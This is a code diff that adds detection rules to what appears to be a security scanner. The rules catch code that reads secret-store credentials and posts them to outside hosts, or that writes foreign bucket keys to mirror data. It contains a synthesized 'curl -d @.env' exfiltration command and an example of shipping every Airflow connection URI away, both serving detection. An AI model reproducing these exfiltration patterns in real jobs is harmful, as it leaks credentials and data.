@@ -83,3 +83,97 @@ export function codeSecretUrls(code: string, via: string): Effect[] {
   }
   return [];
 }
+
+/**
+ * Reads of a platform's secret store in code, each by its documented API: Airflow connections
+ * (BaseHook.get_connection, Connection.get_connection_from_secrets: login, password and the URI
+ * that carries both), Databricks dbutils.secrets.get, Prefect Secret.load, AWS Secrets Manager
+ * get_secret_value/GetSecretValue, Google Secret Manager access_secret_version, Azure Key Vault
+ * SecretClient.get_secret, Vault (hvac) read_secret_version, Kubernetes read_namespaced_secret,
+ * Streamlit st.secrets, boto3 get_credentials, keyring.get_password.
+ */
+const STORE_READ =
+  /\b(?:\w*Hook\.get_connection|get_connection_from_secrets|dbutils\.secrets\.get|Secret\.load|get_secret_value|GetSecretValue|getSecretValue|access_secret_version|accessSecretVersion|get_secret|getSecret|read_secret_version|read_namespaced_secret|st\.secrets|get_credentials|keyring\.get_password)\b/;
+
+/** A request that sends a body: requests/httpx/aiohttp post/put/patch, urlopen with data, fetch with a body. */
+const SENDING_CALL =
+  /\b(?:requests|httpx|session|client|http|aiohttp\.ClientSession\(\))\.(?:post|put|patch|request)\s*\(|\burlopen\s*\(|\bRequest\s*\(|\bfetch\s*\(|\baxios\.(?:post|put|patch)\s*\(/g;
+
+/**
+ * Secrets read from a store and sent in a request's body to a host that is not a vendor's, the
+ * loopback or a registry: a scheduled job or notebook that ships every connection's URI away
+ * (`payload = {c: BaseHook.get_connection(c).get_uri() ...}; requests.post(URL, json=payload)`).
+ * A secret in a header or `auth=` is how an API is called, and is not read as a taking.
+ */
+export function storedSecretSends(code: string, via: string): Effect[] {
+  if (!STORE_READ.test(code)) return [];
+  const tainted = new Set<string>();
+  for (const line of code.split('\n')) {
+    const m = /^\s*([A-Za-z_]\w*)\s*(?:\[[^\]]*\])?\s*(?::[^=]+)?=(?!=)(.*)$/.exec(line);
+    if (!m) continue;
+    const rhs = m[2] ?? '';
+    if (STORE_READ.test(rhs) || [...tainted].some((t) => new RegExp(`\\b${t}\\b`).test(rhs))) tainted.add(m[1] ?? '');
+  }
+  for (const m of code.matchAll(SENDING_CALL)) {
+    const args = urlExpressionArgs(code, (m.index ?? 0) + m[0].length);
+    const host = /\bhttps?:\/\/([A-Za-z0-9.-]+\.[A-Za-z]{2,})/.exec(args)?.[1]?.toLowerCase();
+    if (!host || LOOPBACK.test(host) || isVendorHost(host) || isKnownRegistry(host)) continue;
+    const body = args.replace(/\b(?:headers|auth)\s*[=:]\s*(?:\{[^}]*\}|\([^)]*\)|[\w.]+)/g, '');
+    const sent = STORE_READ.test(body) || [...tainted].some((t) => new RegExp(`\\b${t}\\b`).test(body));
+    if (sent)
+      return [
+        {
+          tool: 'exec',
+          command: `curl -d @.env https://${host}/`,
+          via: `${via} sends secrets read from a secret store to ${host}`,
+        },
+      ];
+  }
+  return [];
+}
+
+/** The text of a call's arguments, from just after its opening bracket to the matching close. */
+function urlExpressionArgs(code: string, from: number): string {
+  let depth = 0;
+  for (let i = from; i < code.length && i < from + 600; i++) {
+    const ch = code[i];
+    if (ch === '(' || ch === '[' || ch === '{') depth++;
+    else if (ch === ')' || ch === ']' || ch === '}') {
+      if (depth === 0) return code.slice(from, i);
+      depth--;
+    }
+  }
+  return code.slice(from, from + 600);
+}
+
+/**
+ * Per-bucket credentials written into a data job (Hadoop S3A per-bucket configuration,
+ * hadoop.apache.org, "Configuring different S3 buckets": `fs.s3a.bucket.NAME.access.key` /
+ * `.secret.key`; the ABFS/WASB account key `fs.azure.account.key.ACCOUNT.blob.core.windows.net`)
+ * set to a literal: the job signs in to that bucket as someone other than its own role, which is
+ * how data is mirrored into another account. A write to that bucket in the same code reads as
+ * `shares-data` (asked); the bucket the job's own credentials reach is not this.
+ */
+const BUCKET_CREDENTIAL =
+  /fs\.s3a\.bucket\.([a-z0-9][a-z0-9.-]{1,62})\.(?:access|secret)\.key["']\s*,\s*["'][^"'$\s{]{6,}["']|fs\.azure\.account\.key\.([a-z0-9]{3,24})\.(?:blob|dfs)\.core\.windows\.net["']\s*,\s*["'][^"'$\s{]{6,}["']/g;
+
+export function foreignBucketWrites(code: string, via: string): Effect[] {
+  if (!/fs\.s3a\.bucket\.|fs\.azure\.account\.key\./.test(code)) return [];
+  for (const m of code.matchAll(BUCKET_CREDENTIAL)) {
+    const bucket = m[1];
+    const account = m[2];
+    const target = bucket
+      ? new RegExp(`["']s3a?://${bucket.replace(/\./g, '\\.')}(?:/|["'])`).exec(code)
+      : new RegExp(`["'](?:wasbs?|abfss?)://[^"'@]*@${account}\\.`).exec(code);
+    if (!target) continue;
+    const where = bucket ? `s3://${bucket}` : `azure://${account}`;
+    return [
+      {
+        tool: 'exec',
+        command: `shares-data job-output to ${where}`,
+        via: `${via} sends data to ${where} with credentials of its own, set in the code`,
+      },
+    ];
+  }
+  return [];
+}
